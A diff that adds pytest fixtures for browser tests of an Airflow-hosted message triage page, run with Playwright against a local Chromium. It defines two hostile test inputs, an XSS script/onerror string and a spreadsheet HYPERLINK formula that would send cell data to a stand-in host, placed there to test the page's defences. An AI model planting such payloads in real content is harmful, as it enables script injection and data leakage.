@@ -1,0 +1,127 @@
+"""A real Airflow with the review page over ten days of messages, and a real Chromium before it."""
+
+import datetime as dt
+import shutil
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from random import Random
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
+
+from nlp import stack
+from nlp.embed import SentenceEncoder
+from nlp.jobs.replay import run_days
+from nlp.jobs.train import add_examples, train_intents
+from nlp.records import LabelledExample
+from nlp.settings import Settings, load
+from sql import embedded
+from sql.connect import PostgresStore, migrate, open_store
+from tests.fakes import MemorySource
+from tests.inbox import FIRST, LAST, N_DAYS, SUBJECTS, about, inbox, raw_row
+
+NEXT = LAST + dt.timedelta(1)
+SCRIPT = "I lost my card <script>window.hurt = true</script><img src=x onerror=alert(1)>"
+FORMULA = '=HYPERLINK("http://x.test/?"&A1) I lost my card'
+_NAMES = ("chromium", "chromium-browser", "google-chrome")
+_FLAGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update"]
+
+
+@dataclass(frozen=True)
+class Site:
+    """The running page and the store under it."""
+
+    airflow: stack.Airflow
+    store: PostgresStore
+    encoder: SentenceEncoder
+    settings: Settings
+
+    @property
+    def url(self) -> str:
+        """Where the page is, without a slash at the end."""
+        return f"{self.airflow.url}/triage"
+
+    def run_next_day(self) -> None:
+        """Run the day after the ten through the very jobs that the DAGs run."""
+        rng = Random(8)
+        names = [*SUBJECTS, "mortgage"]
+        rows = {NEXT: [row for name in names for row in about(name, NEXT, 12, rng)]}
+        source = MemorySource("inbox", rows)
+        run_days(self.store, self.encoder, [NEXT], sources=[source], settings=self.settings)
+
+
+@pytest.fixture(scope="package")
+def site(local_dir: Path, encoder: SentenceEncoder) -> Iterator[Site]:
+    """Ten days, triaged by the real jobs with a model that is seldom sure, behind Airflow."""
+    url = embedded.database_url(local_dir, "browser")
+    home = local_dir / "browser"  # an Airflow of its own, beside that of the DAGs' tests
+    settings = load(database_url=url, local_dir=home, intent_threshold=0.97, _env_file=None)
+    migrate(settings)
+    rows = inbox()
+    rows[LAST] += [raw_row("script", LAST, SCRIPT, "chat"), raw_row("formula", LAST, FORMULA, None)]
+    with open_store(settings) as store:
+        examples = [
+            LabelledExample(frame.format(place), name)
+            for name, frames in SUBJECTS.items()
+            for frame in frames
+            for place in ("in Rome", "on the bus", "on sunday")
+        ]
+        add_examples(store, examples, origin="test", settings=settings)
+        train_intents(store, encoder, settings=settings)
+        days = [FIRST + dt.timedelta(n) for n in range(N_DAYS)]
+        run_days(store, encoder, days, sources=[MemorySource("inbox", rows)], settings=settings)
+        with stack.running(
+            settings,
+            triage_url=url,
+            airflow_url=embedded.database_url(local_dir, "airflow_browser"),
+            components=("api-server", "dag-processor"),
+            port=0,
+        ) as airflow:
+            yield Site(airflow, store, encoder, settings)
+
+
+@pytest.fixture(scope="package")
+def chromium() -> Iterator[Browser]:
+    """The Chromium of the machine; without one the tests fail and say how to get it."""
+    path = next((found for name in _NAMES if (found := shutil.which(name))), None)
+    if path is None:
+        pytest.fail(
+            "No Chromium is installed: `make browser` as root installs it on Debian and Ubuntu "
+            f"(apt-get install chromium); elsewhere put one of {', '.join(_NAMES)} on the PATH"
+        )
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=path, args=_FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def lead(site: Site, chromium: Browser) -> Iterator[Page]:
+    """A page of somebody who may decide, logged in."""
+    yield from _page_of(site, chromium, "lead")
+
+
+@pytest.fixture
+def viewer(site: Site, chromium: Browser) -> Iterator[Page]:
+    """A page of somebody who only reads, logged in."""
+    yield from _page_of(site, chromium, "viewer")
+
+
+def token_of(site: Site, username: str) -> str:
+    """A token of Airflow's for the user."""
+    from nlp.stack_api import Api
+
+    password = site.airflow.home.passwords[username]
+    api = Api(site.airflow.url, username=username, password=password)
+    login = {"username": username, "password": password}
+    return str(api._send("POST", "/auth/token", login)["access_token"])
+
+
+def _page_of(site: Site, chromium: Browser, username: str) -> Iterator[Page]:
+    context: BrowserContext = chromium.new_context()
+    context.set_default_timeout(20_000)
+    cookie = {"name": "_token", "value": token_of(site, username), "url": site.airflow.url}
+    context.add_cookies([cookie])  # type: ignore[list-item]
+    yield context.new_page()
+    context.close()
